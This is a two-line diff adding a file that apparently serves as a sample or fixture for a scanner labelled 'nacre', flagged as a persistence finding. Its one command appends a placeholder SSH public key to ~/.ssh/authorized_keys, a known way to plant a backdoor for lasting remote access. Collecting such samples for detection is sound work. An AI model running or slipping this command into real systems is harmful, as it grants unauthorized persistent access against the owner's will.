@@ -1,0 +1,2 @@
+# nacre: found file.persist
+echo "ssh-rsa AAAA" >> ~/.ssh/authorized_keys
